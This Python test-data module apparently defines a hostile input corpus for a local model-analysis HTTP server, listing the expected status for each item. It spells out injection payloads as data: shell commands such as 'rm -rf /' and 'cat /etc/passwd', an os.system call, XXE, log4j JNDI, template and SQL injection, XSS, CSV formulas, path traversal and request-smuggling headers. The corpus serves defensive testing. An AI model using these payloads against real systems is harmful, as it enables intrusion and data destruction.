"""The hostile corpus: what ordinary test data never holds, each entry with the answer it must get.

Data only. Four shapes: raw bodies for every operation that takes one, texts wherever text goes, values for every numeric
field, and whole requests as bytes on the wire. `tests/hostile/test_corpus.py` sends them to a running server.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

MAX_BODY = 2 << 20
MAX_CHARACTERS = 100_000


@dataclass(frozen=True)
class Body:
    """Raw bytes sent as application/json to every operation that takes a body; the answer is the same for each."""

    name: str
    raw: bytes
    status: int
    code: str


@dataclass(frozen=True)
class Text:
    """A text for every field that holds one. 200 means: the same characters come back, byte for byte."""

    name: str
    text: str


@dataclass(frozen=True)
class Value:
    """A JSON value as it stands in the body, for every numeric field. `is_index` when a list of indices may hold it."""

    name: str
    raw: bytes
    is_int: bool
    is_float: bool


@dataclass(frozen=True)
class Wire:
    """A whole request in bytes. `status` None: the connection is closed without an answer."""

    name: str
    raw: bytes
    status: int | None
    code: str | None = None


def _bodies() -> tuple[Body, ...]:
    not_json = {
        "nan": b"NaN",
        "infinity": b"Infinity",
        "minus infinity": b"-Infinity",
        "nan in a list": b"[NaN]",
        "nan as an int": b'{"top_k": NaN}',
        "infinity as a float": b'{"strength": Infinity}',
        "minus infinity in text": b'{"prompt": -Infinity}',
        "overflowing number": b"1e999",
        "overflowing field": b'{"top_k": 1e999}',
        "10^5 open brackets": b"[" * 100_000,
        "5000 levels": b"[" * 5000 + b"]" * 5000,
        "5000 levels of objects": b'{"a":' * 5000 + b"1" + b"}" * 5000,
        "5000-digit int": b"9" * 5000,
        "5000-digit field": b'{"top_k": ' + b"9" * 5000 + b"}",
        "utf-16 with bom": '{"prompt": "a"}'.encode("utf-16"),
        "utf-16 little-endian": '{"prompt": "a"}'.encode("utf-16-le"),
        "utf-32 with bom": '{"prompt": "a"}'.encode("utf-32"),
        "utf-8 with bom": '\ufeff{"prompt": "a"}'.encode(),
        "overlong slash": b'{"prompt": "\xc0\xaf"}',
        "overlong nul": b'{"prompt": "\xc0\x80"}',
        "surrogate bytes": b'{"prompt": "\xed\xa0\x80"}',
        "truncated emoji": b'{"prompt": "\xf0\x9f\x98"}',
        "stray continuation": b'{"prompt": "\x80"}',
        "beyond unicode": b'{"prompt": "\xf4\x90\x80\x80"}',
        "five-byte sequence": b'{"prompt": "\xf8\x88\x80\x80\x80"}',
        "latin-1": '{"prompt": "é"}'.encode("latin-1"),
        "lone high surrogate": b'{"prompt": "\\ud800"}',
        "lone low surrogate": b'{"prompt": "\\udc00"}',
        "reversed surrogates": b'{"prompt": "\\udc00\\ud800"}',
        "surrogate in a key": b'{"\\ud800": 1}',
        "surrogate in the middle": b'{"prompt": "a\\udfffb"}',
        "raw nul": b'{"prompt": "\x00"}',
        "raw newline": b'{"prompt": "\n"}',
        "raw escape": b'{"prompt": "\x1b[31m"}',
        "gzip": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\xae\x05\x00\x43\xbf\xa6\xa3\x02\x00\x00\x00",
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01",
        "pdf": b"%PDF-1.7\n",
        "zip": b"PK\x03\x04\x14\x00",
        "pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94.",
        "safetensors": b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ",
        "multipart": b'--x\r\nContent-Disposition: form-data; name="prompt"\r\n\r\na\r\n--x--\r\n',
        "form": b"prompt=a&model=specimen",
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "yaml": b"prompt: a",
        "javascript": b"{prompt: 'a'}",
        "single quotes": b"{'prompt': 'a'}",
        "trailing comma": b'{"prompt": "a",}',
        "comment": b'// a\n{"prompt": "a"}',
        "two documents": b"{}{}",
        "document and rest": b"{} x",
        "document and nul": b"{}\x00",
        "leading zero": b'{"top_k": 01}',
        "hexadecimal": b'{"top_k": 0x10}',
        "plus sign": b'{"top_k": +1}',
        "no digit before the point": b'{"top_k": .5}',
        "no digit after the point": b'{"top_k": 5.}',
        "underscore": b'{"top_k": 1_0}',
        "unfinished string": b'{"prompt": "a',
        "unfinished escape": b'{"prompt": "\\',
        "unfinished unicode": b'{"prompt": "\\u12',
        "bad escape": b'{"prompt": "\\x41"}',
        "unfinished object": b'{"prompt"',
        "only a brace": b"{",
        "only a closing brace": b"}",
        "whitespace": b" \t\r\n",
        "nul bytes": b"\x00" * 64,
        "0xff bytes": b"\xff" * 64,
        "form feed": b"\x0c{}",
        "true with capital": b"True",
        "undefined": b"undefined",
    }
    not_an_object = {
        "null": b"null",
        "number": b"1",
        "minus zero": b"-0",
        "2^63": str(2**63).encode(),
        "2^64": str(2**64).encode(),
        "2^70": str(2**70).encode(),
        "fraction": b"1.5",
        "denormal": b"1e-320",
        "string": b'"prompt"',
        "json in a string": b'"{\\"prompt\\": \\"a\\"}"',
        "true": b"true",
        "array": b"[]",
        "array of objects": b'[{"prompt": "a"}]',
        "array of pairs": b'[["prompt", "a"]]',
        "900 levels": b"[" * 900 + b"]" * 900,
    }
    wrong_fields = {
        "unknown field": b'{"nobody_knows": 1}',
        "__proto__": b'{"__proto__": {"admin": true}}',
        "constructor": b'{"constructor": {"prototype": {"admin": true}}}',
        "__class__": b'{"__class__": "os.system"}',
        "empty key": b'{"": 1}',
        "nul key": b'{"\\u0000": 1}',
        "long key": b'{"' + b"k" * 60_000 + b'": 1}',
        "bidi key": '{"\u202e": 1}'.encode(),
        "10^4 unknown fields": b"{" + b",".join(b'"f%d": %d' % (i, i) for i in range(10_000)) + b"}",
        "900 levels of objects": b'{"a":' * 900 + b"1" + b"}" * 900,
    }
    empty = (Body("empty", b"", 422, "invalid_input"), Body("empty object", b"{}", 422, "invalid_input"))
    return (
        *empty,
        *(Body(name, raw, 400, "bad_json") for name, raw in not_json.items()),
        *(Body(name, raw, 422, "invalid_input") for name, raw in not_an_object.items()),
        *(Body(name, raw, 422, "invalid_input") for name, raw in wrong_fields.items()),
        Body("one byte too many", b'{"a":"' + b"x" * (MAX_BODY - 7) + b'"}', 413, "body_too_large"),
        Body("exactly the limit", b'{"a":"' + b"x" * (MAX_BODY - 8) + b'"}', 422, "invalid_input"),
        Body("one byte less", b'{"a":"' + b"x" * (MAX_BODY - 9) + b'"}', 422, "invalid_input"),
    )


BODIES = _bodies()


def _texts() -> tuple[Text, ...]:
    controls = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))
    named = {
        "one space": " ",
        "one letter": "a",
        "nul first": "\0a",
        "nul in the middle": "a\0b",
        "nul last": "a\0",
        "only nul": "\0",
        "every control": controls,
        "escape sequence": "\x1b[31mred\x1b[0m",
        "bell and backspace": "a\x07\x08b",
        "crlf pairs": "a\r\nb\r\n\r\nc",
        "lone carriage return": "a\rb",
        "tabs": "\t\ta\t",
        "byte order mark": "\ufeffa",
        "line separator": "a\u2028b\u2029c",
        "next line": "a\u0085b",
        "replacement character": "a\ufffdb",
        "noncharacter": "a\uffffb",
        "last code point": "a\U0010ffffb",
        "private use": "\ue000\U000f0000",
        "soft hyphen": "a\u00adb",
        "word joiner": "a\u2060b",
        "zero width": "a\u200b\u200c\u200db",
        "variation selectors": "a\ufe0e\ufe0f",
        "tag characters": "\U000e0041\U000e007f",
        "ideographic space": "a\u3000b",
        "no-break space": "a\u00a0b",
        "every space": "\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a\u202f\u205f",
        "hebrew": "שלום עולם",
        "arabic": "مرحبا بالعالم",
        "arabic shaping": "لا إله الله ﷺ",
        "right-to-left override": "\u202egnp.exe",
        "nested isolates": "\u2066a\u2067b\u2068c\u2069\u2069\u2069",
        "unclosed embeddings": "\u202a\u202b\u202d\u202e",
        "bidi marks": "a\u200eb\u200fc\u061c",
        "family emoji": "👨‍👩‍👧‍👦",
        "flag": "🇫🇷🇩🇪",
        "half a flag": "🇫",
        "skin tones": "👍🏻👍🏿",
        "keycap": "1️⃣",
        "zalgo": "Z" + "\u0351\u036b\u0343" * 30,
        "combining only": "\u0301\u0302\u0303",
        "devanagari": "क्षत्रिय नमस्ते",
        "thai": "สวัสดีชาวโลก",
        "tamil": "வணக்கம்",
        "hangul jamo": "\u1112\u1161\u11ab",
        "cjk extension b": "𠀀𠮷𪛖",
        "cjk": "法国的首都是",
        "japanese": "フランスの首都は",
        "mathematical letters": "𝕳𝖊𝖑𝖑𝖔",
        "fullwidth": "ＡＢＣ１２３",
        "ligatures": "ﬁﬂﬃ",
        "turkish i": "İıIi",
        "german s": "ẞß",
        "homoglyphs": "Ρаrіѕ",  # Greek and Cyrillic letters
        "composed and decomposed": "é e\u0301",
        "number forms": "½⅓Ⅷ²",
        "gothic": "𐌰𐌱𐌲",
        "braille": "⠓⠑⠇⠇⠕",
        "end of text": "<|endoftext|>",
        "end of text twice": "a<|endoftext|><|endoftext|>b",
        "sentence marks": "<s> </s> <pad> <unk> <mask>",
        "instruction marks": "[INST] <<SYS>> x <</SYS>> [/INST]",
        "chat marks": "<|im_start|>system\nx<|im_end|>",
        "begin of text": "<|begin_of_text|><|eot_id|>",
        "jinja": "{{7*7}}",
        "jinja escape": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "jinja block": "{% for x in range(10**9) %}{% endfor %}",
        "percent format": "%s %d %n %x",
        "brace format": "{0} {x!r} {0.__class__}",
        "dollar brace": "${x} $(id) `id`",
        "plotly template": "%{x} %{customdata[0]}",
        "tex": "$\\frac{1}{2}$ $$x$$",
        "log4j": "${jndi:ldap://example.test/a}",
        "shell": "; rm -rf / #",
        "shell pipe": "| cat /etc/passwd",
        "windows shell": "& del *.* &",
        "path": "../../../../etc/passwd",
        "windows path": "C:\\Windows\\System32\\",
        "url": "http://169.254.169.254/latest/meta-data/",
        "ldap": "*)(uid=*))(|(uid=*",
        "xpath": "' or '1'='1",
        "csv formula": "=1+1",
        "csv command": "=cmd|' /C calc'!A0",
        "csv at": "@SUM(1+1)",
        "csv plus": "+1",
        "csv minus": "-1",
        "csv tab": "\t=1+1",
        "json": '{"a": [1, null]}',
        "json end": '"}]}',
        "backslashes": "\\\\ \\u0041 \\n",
        "quotes": "\"'`´‘’“”",
        "http header": "a\r\nSet-Cookie: a=b",
        "event stream": "data: x\n\nevent: done\n\n",
        "safetensors name": "__metadata__",
        "python": "__import__('os').system('id')",
        "only punctuation": "!?.,;:",
        "digits": "12345678901234567890",
        "long word": "a" * 300,
        "spaces": " " * 50,
        "newlines": "\n" * 50,
    }
    markup = (
        "<script>window.__xss=1</script>",
        "<img src=x onerror=window.__xss=1>",
        "<svg onload=window.__xss=1>",
        "<svg><script>window.__xss=1</script></svg>",
        "<iframe src=javascript:window.__xss=1>",
        "<a href=javascript:window.__xss=1>x</a>",
        "<a href='https://example.test'>x</a>",
        "<math><mi xlink:href='javascript:window.__xss=1'>",
        "<body onload=window.__xss=1>",
        "<details open ontoggle=window.__xss=1>",
        "<input autofocus onfocus=window.__xss=1>",
        "<style>@import 'https://example.test'</style>",
        "<link rel=stylesheet href=https://example.test>",
        "<base href=https://example.test>",
        "<meta http-equiv=refresh content=0;url=https://example.test>",
        "<form action=https://example.test><button>x",
        "<object data=javascript:window.__xss=1>",
        "<embed src=javascript:window.__xss=1>",
        "<template><script>window.__xss=1</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
        "</script><script>window.__xss=1</script>",
        "</title><script>window.__xss=1</script>",
        "</textarea><script>window.__xss=1</script>",
        "<!--<script>",
        "--><script>window.__xss=1</script>",
        "<![CDATA[<script>window.__xss=1</script>]]>",
        "'\"><script>window.__xss=1</script>",
        "\" onmouseover=\"window.__xss=1",
        "javascript:window.__xss=1",
        "&lt;script&gt;window.__xss=1&lt;/script&gt;",
        "&#60;script&#62;",
        "<b>bold</b><br><i>x</i>",
        "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
        "<ScRiPt>window.__xss=1</sCrIpT>",
        "<script\x0c>window.__xss=1</script>",
        "＜script＞window.__xss=1＜/script＞",
        "expression(window.__xss=1)",
        "url(javascript:window.__xss=1)",
    )  # fmt: skip
    sql = (
        "' OR 1=1 --",
        "'; DROP TABLE results; --",
        "' UNION SELECT key, body FROM results --",
        "1; ATTACH DATABASE '/tmp/x' AS y; --",
        "' AND randomblob(1000000000) --",
        "') OR ('1'='1",
        "\\'; DELETE FROM analyses; --",
        "%' AND '%'='",
        "_%",
        "'||(SELECT name FROM sqlite_master)||'",
        "/**/OR/**/1=1",
        "' OR load_extension('x') --",
        "\u02bc OR 1=1 --",
        "'; VACUUM INTO '/tmp/x'; --",
        "' GROUP BY 1 HAVING 1=1 --",
    )
    return (
        *(Text(name, text) for name, text in named.items()),
        *(Text(f"markup {number}", text) for number, text in enumerate(markup)),
        *(Text(f"sql {number}", text) for number, text in enumerate(sql)),
    )


TEXTS = _texts()

TOO_MANY_CHARACTERS = (
    Text("one character too many", "a" * (MAX_CHARACTERS + 1)),
    Text("a million of one letter", "a" * 1_000_000),
    Text("a million spaces", " " * 1_000_000),
    Text("half a million emoji", "😀" * 400_000),
)
"""Refused by their length, before any of it is tokenized."""

TOO_MANY_TOKENS = (
    Text("a long line", "word " * 10_000),
    Text("nul to the limit", "\0" * MAX_CHARACTERS),
    Text("zero width joiners", "\u200d" * 50_000),
    Text("zalgo to the limit", "Z" + "\u0351" * (MAX_CHARACTERS - 1)),
)
"""Within the length, but more tokens than the model reads."""


def _values() -> tuple[Value, ...]:
    integers = (-(2**63), -(2**31), -(10**6), -2, -1, 0, 1, 2**31, 2**32, 2**53, 2**63 - 1, 2**63, 2**64 - 1)
    floats = (b"-0.0", b"1.0", b"1.5", b"1e-45", b"1e-320", b"1e4", b"-1e4", b"1e38", b"-1e38", b"1e308", b"18446744073709551616")
    others = (
        b'"1"', b'""', b'"all"', b'"-1"', b'"1e3"', b'"0x1"', b'"NaN"', b'"Infinity"', b'"\\u0661"', b"true", b"false",
        b"null", b"[]", b"[[]]", b"{}", b'{"a": 1}', b"[null]", b'["1"]', b"[1.5]", b"[true]", b"[-1]",
    )  # fmt: skip
    return (
        *(Value(f"integer {number}", str(number).encode(), True, True) for number in integers),
        *(Value(f"float {raw.decode()}", raw, False, True) for raw in floats),
        *(Value(f"other {raw.decode()}", raw, False, False) for raw in others),
    )


VALUES = _values()

LISTS: dict[str, tuple[Any, int, str | None]] = {
    "empty": ([], 422, "invalid_input"),
    "one": ([0], 200, None),
    "repeated": ([0, 0, 0, 0], 200, None),
    "descending": ([2, 1, 0], 200, None),
    "last and one more": ([0, 10**6], 422, None),
    "beyond the schema": ([10**6 + 1], 422, "invalid_input"),
    "4097 long": ([0] * 4097, 422, "invalid_input"),
    "10^5 long": ([0] * 100_000, 422, "invalid_input"),
    "negative": ([-1], 422, "invalid_input"),
    "text": (["0"], 422, "invalid_input"),
    "booleans": ([True], 422, "invalid_input"),
    "floats": ([0.0], 422, "invalid_input"),
    "nulls": ([None], 422, "invalid_input"),
    "nested": ([[0]], 422, "invalid_input"),
    "range with start after end": ({"start": 3, "stop": 1}, 422, "invalid_input"),
    "a slice": ("0:2", 422, "invalid_input"),
    "ALL": ("ALL", 422, "invalid_input"),
    "2^63": ([2**63], 422, "invalid_input"),
}
"""For fields that list layers or heads: the value, and the answer it must get."""


NAMES = (
    "../specimen", "..%2fspecimen", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5c..%5cwindows", "%00", "specimen%00", "specimen%0a",
    "%ff%fe", "%c0%af", "%ed%a0%80", "%E2%80%AEnemiceps", "specimen%20", "SPECIMEN", "con", "nul.txt", "C%3A%5C", "%5c%5chost",
    "proc", "self", "a" * 300, "a" * 8000, "'%20OR%201=1", "%3Cscript%3E", "{id}", "$%7Bx%7D", "%25s", "*", "~", "-", "_",
    ".", "..", "...", ".hidden", "index.html", "%F0%9F%98%80", "1", "-1", "null", "undefined", "NaN", "true",
)  # fmt: skip
"""Ids in an address that stand for nothing: models, results, runs, analyses. As they are written in the address."""


def _wire() -> tuple[Wire, ...]:
    def request(line: str, *headers: str, body: bytes = b"", host: str = "Host: localhost") -> bytes:
        head = "\r\n".join((line, *((host,) if host else ()), *headers, "Connection: close", "", ""))
        return head.encode("latin-1") + body

    get = "GET /api/v1/health/live HTTP/1.1"
    post = "POST /api/v1/models/specimen/tokenize HTTP/1.1"
    json, ok = "Content-Type: application/json", b'{"text": "a"}'
    length = f"Content-Length: {len(ok)}"
    hosts = {
        "evil name": ("Host: evil.example", 400, "bad_host"),
        "evil name and port": ("Host: evil.example:8000", 400, "bad_host"),
        "no host": ("", 400, "bad_host"),
        "empty host": ("Host:", 400, "bad_host"),
        "only a port": ("Host: :8000", 400, "bad_host"),
        "two hosts": ("Host: localhost\r\nHost: evil.example", 400, "bad_host"),
        "same host twice": ("Host: localhost\r\nHost: localhost", 400, "bad_host"),
        "host with a path": ("Host: localhost/a", 400, "bad_host"),
        "host with a user": ("Host: localhost@evil.example", 400, "bad_host"),
        "host with a comma": ("Host: localhost, evil.example", 400, "bad_host"),
        "host with a suffix": ("Host: localhost.evil.example", 400, "bad_host"),
        "host as a prefix": ("Host: notlocalhost", 400, "bad_host"),
        "another address": ("Host: 192.168.0.1", 400, "bad_host"),
        "unspecified address": ("Host: 0.0.0.0", 400, "bad_host"),
        "decimal loopback": ("Host: 2130706433", 400, "bad_host"),
        "octal loopback": ("Host: 0177.0.0.1", 400, "bad_host"),
        "port too long": ("Host: localhost:1234567", 400, "bad_host"),
        "port in words": ("Host: localhost:http", 400, "bad_host"),
        "trailing dot": ("Host: localhost.", 400, "bad_host"),
        "full-width host": ("Host: \xef\xbc\xac", 400, "bad_host"),
        "capitals": ("Host: LOCALHOST:1", 200, None),
        "loopback address": ("Host: 127.0.0.1:80", 200, None),
        "loopback in version 6": ("Host: [::1]:80", 200, None),
        "broken version 6": ("Host: [::1", 400, "bad_host"),
    }
    sites = {
        "same origin": ("Sec-Fetch-Site: same-origin", 200, None),
        "typed address": ("Sec-Fetch-Site: none", 200, None),
        "same site": ("Sec-Fetch-Site: same-site", 403, "cross_site"),
        "cross site": ("Sec-Fetch-Site: cross-site", 403, "cross_site"),
        "unknown site": ("Sec-Fetch-Site: elsewhere", 403, "cross_site"),
        "site in capitals": ("Sec-Fetch-Site: SAME-ORIGIN", 403, "cross_site"),
        "origin null": ("Origin: null", 403, "cross_site"),
        "other origin": ("Origin: https://evil.example", 403, "cross_site"),
        "other port": ("Origin: http://localhost:9", 403, "cross_site"),
        "origin as a prefix": ("Origin: http://localhost.evil.example", 403, "cross_site"),
        "origin of a file": ("Origin: file://", 403, "cross_site"),
        "origin of an extension": ("Origin: moz-extension://a", 403, "cross_site"),
        "own origin": ("Origin: http://localhost", 200, None),
        "own origin, other site": ("Origin: http://localhost\r\nSec-Fetch-Site: cross-site", 403, "cross_site"),
    }
    types = {
        "json": ("application/json", 200, None),
        "json with a charset": ("application/json; charset=utf-8", 200, None),
        "json in capitals": ("APPLICATION/JSON", 200, None),
        "text": ("text/plain", 415, "unsupported_media_type"),
        "text that says json": ("text/plain; application/json", 415, "unsupported_media_type"),
        "form": ("application/x-www-form-urlencoded", 415, "unsupported_media_type"),
        "multipart": ("multipart/form-data; boundary=x", 415, "unsupported_media_type"),
        "json relative": ("application/ld+json", 415, "unsupported_media_type"),
        "json as a prefix": ("application/jsonx", 415, "unsupported_media_type"),
        "xml": ("application/xml", 415, "unsupported_media_type"),
        "png": ("image/png", 415, "unsupported_media_type"),
        "star": ("*/*", 415, "unsupported_media_type"),
        "list": ("application/json, text/plain", 415, "unsupported_media_type"),
    }
    methods = ("PUT", "PATCH", "TRACE", "OPTIONS", "PROPFIND", "DELETE")
    addresses = {
        "outside": ("/nowhere", 404, "not_found"),
        "api root": ("/api", 404, "not_found"),
        "version root": ("/api/v1", 404, "not_found"),
        "next version": ("/api/v2/models", 404, "not_found"),
        "double slash": ("//api/v1/models", 404, "not_found"),
        "trailing slash": ("/api/v1/models/", 404, "not_found"),
        "traversal": ("/assets/../../../etc/passwd", 404, "not_found"),
        "encoded traversal": ("/assets/%2e%2e/%2e%2e/etc/passwd", 404, "not_found"),
        "double encoding": ("/assets/%252e%252e/etc/passwd", 404, "not_found"),
        "backslashes": ("/assets/..\\..\\etc\\passwd", 404, "not_found"),
        "encoded slashes": ("/assets%2f..%2f..%2fetc%2fpasswd", 404, "not_found"),
        "nul": ("/assets/a%00.js", 404, "not_found"),
        "source file": ("/web/app.py", 404, "not_found"),
        "git": ("/.git/config", 404, "not_found"),
        "environment": ("/.env", 404, "not_found"),
        "framework docs": ("/redoc", 404, "not_found"),
        "php": ("/index.php", 404, "not_found"),
        "bad percent": ("/api/v1/models/%zz", 404, "unknown_model"),
        "bad utf-8": ("/api/v1/models/%ff", 404, "unknown_model"),
        "long query": ("/api/v1/health/live?" + "a=b&" * 4000, 200, None),
        "repeated query": ("/api/v1/analyses/x?arrays=true&arrays=maybe", 422, "invalid_input"),
        "wrong query": ("/api/v1/analyses/x?arrays=maybe", 422, "invalid_input"),
        "long address": ("/" + "a" * 60_000, 404, "not_found"),
        "too long address": ("/" + "a" * 70_000, 431, "head_too_large"),
        "fragment": ("/api/v1/health/live#x", 200, None),
        "absolute address": ("http://localhost/api/v1/health/live", 200, None),
    }
    headers = {
        "100 headers": ("\r\n".join(f"X-{i}: {i}" for i in range(100)), 200, None),
        "60 kB header": ("X-A: " + "a" * 60_000, 200, None),
        "70 kB header": ("X-A: " + "a" * 70_000, 431, "head_too_large"),
        "5000 headers": ("\r\n".join(f"X-{i}: {i}" for i in range(5000)), 431, "head_too_large"),
        "many ranges": ("Range: bytes=" + ",".join(f"{i}-{i}" for i in range(5_000)), 200, None),
        "backwards range": ("Range: bytes=9-1", 200, None),
        "accept nan": ("Accept: */*;q=NaN", 200, None),
        "accept nonsense": ("Accept: ;;;,,,q=q", 200, None),
        "accept tensors nan": ("Accept: application/vnd.safetensors;q=NaN", 200, None),
        "etag nonsense": ('If-None-Match: "', 200, None),
        "forwarded": ("X-Forwarded-Host: evil.example\r\nX-Forwarded-For: 1.2.3.4", 200, None),
        "override": ("X-HTTP-Method-Override: DELETE", 200, None),
        "latin-1 header": ("X-A: \xe9\xff", 200, None),
        "prefer nonsense": ("Prefer: respond-async=;;,", 200, None),
        "cookie": ("Cookie: a=b", 200, None),
        "upgrade": ("Upgrade: websocket", 200, None),
        "accept-encoding": ("Accept-Encoding: gzip, br, zstd, x", 200, None),
        "authorization": ("Authorization: Basic !!!", 200, None),
        "early data": ("Early-Data: 1", 200, None),
        "nul header": ("X-A: a\0b", 400, "bad_request"),
        "space in a name": ("X A: b", 400, "bad_request"),
        "no colon": ("nonsense", 400, "bad_request"),
    }
    framing = (
        Wire("http 1.0", request("GET /api/v1/health/live HTTP/1.0"), 200),
        Wire("http 2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 400, "bad_request"),
        Wire("http 3", request("GET / HTTP/3.0"), 400, "bad_request"),
        Wire("no version", b"GET /\r\n\r\n", 400, "bad_request"),
        Wire("nonsense", b"\x00\x01\x02\x03\r\n\r\n", 400, "bad_request"),
        Wire("tls hello", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 400, "bad_request"),
        Wire("unknown verb", request("BREW /api/v1/health/live HTTP/1.1"), 400, "bad_request"),
        Wire("lower-case verb", request("get /api/v1/health/live HTTP/1.1"), 400, "bad_request"),
        Wire("connect", request("CONNECT evil.example:443 HTTP/1.1"), 400, "bad_request"),
        Wire("star", request("OPTIONS * HTTP/1.1"), 404, "not_found"),
        Wire("space in the address", request("GET /a b HTTP/1.1"), 400, "bad_request"),
        Wire("raw utf-8 in the address", "GET /é HTTP/1.1\r\nHost: localhost\r\n\r\n".encode(), 400, "bad_request"),
        Wire("two lengths", request(post, json, length, "Content-Length: 3", body=ok), 400, "bad_request"),
        Wire("negative length", request(post, json, "Content-Length: -1", body=ok), 400, "bad_request"),
        Wire("length in words", request(post, json, "Content-Length: many", body=ok), 400, "bad_request"),
        Wire("huge length", request(post, json, "Content-Length: 99999999999999999999999", body=ok), 400, "bad_request"),
        Wire("length above the limit", request(post, json, f"Content-Length: {MAX_BODY + 1}"), 413, "body_too_large"),
        Wire("short length", request(post, json, "Content-Length: 5", body=ok), 400, "bad_json"),
        Wire("length and chunks", request(post, json, length, "Transfer-Encoding: chunked", body=ok), 400, "bad_request"),
        Wire("chunked", request(post, json, "Transfer-Encoding: chunked", body=b'd\r\n{"text": "a"}\r\n0\r\n\r\n'), 200),
        Wire(
            "chunked with trailers",
            request(post, json, "Transfer-Encoding: chunked", body=b'd\r\n{"text": "a"}\r\n0\r\nX-A: b\r\n\r\n'),
            200,
        ),
        Wire("bad chunk", request(post, json, "Transfer-Encoding: chunked", body=b"zz\r\n{}\r\n"), 400, None),
        Wire("unknown coding", request(post, json, "Transfer-Encoding: gzip", length, body=ok), 400, "bad_request"),
        Wire(
            "chunks without end",
            request(post, json, "Transfer-Encoding: chunked", body=(b"10000\r\n" + b"a" * 65536 + b"\r\n") * 33),
            413,
            "body_too_large",
        ),
        Wire("body of a get", request(get, json, length, body=ok), 200),
        Wire("post without a type", request(post, length, body=ok), 415, "unsupported_media_type"),
        Wire("post without a length", request(post, json), 422, "invalid_input"),
        Wire("expect continue", request(post, json, length, "Expect: 100-continue", body=ok), 200),
        Wire("expect something else", request(post, json, length, "Expect: 200-maybe", body=ok), 200),
    )
    return (
        *(Wire(f"host: {name}", request(get, host=line), status, code) for name, (line, status, code) in hosts.items()),
        *(
            Wire(f"site: {name}", request(post, json, length, line, body=ok), status, code)
            for name, (line, status, code) in sites.items()
        ),
        *(
            Wire(f"type: {name}", request(post, f"Content-Type: {kind}", length, body=ok), status, code)
            for name, (kind, status, code) in types.items()
        ),
        *(
            Wire(f"verb: {verb}", request(f"{verb} /api/v1/health/live HTTP/1.1", json), 405, "method_not_allowed")
            for verb in methods
        ),
        *(
            Wire(f"address: {name}", request(f"GET {address} HTTP/1.1"), status, code)
            for name, (address, status, code) in addresses.items()
        ),
        *(Wire(f"header: {name}", request(get, line), status, code) for name, (line, status, code) in headers.items()),
        *framing,
    )


WIRE = _wire()

SIZE = sum(map(len, (BODIES, TEXTS, TOO_MANY_CHARACTERS, TOO_MANY_TOKENS, VALUES, LISTS, NAMES, WIRE)))
